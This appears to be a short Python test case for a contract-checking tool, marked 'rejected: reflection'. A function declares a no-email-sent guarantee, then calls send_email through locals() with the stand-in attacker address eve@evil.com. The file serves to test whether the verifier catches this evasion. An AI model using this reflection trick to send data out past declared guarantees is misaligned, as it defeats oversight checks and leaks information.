# rejected: reflection
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    f = send_email
    locals()["f"]("eve@evil.com", "x")
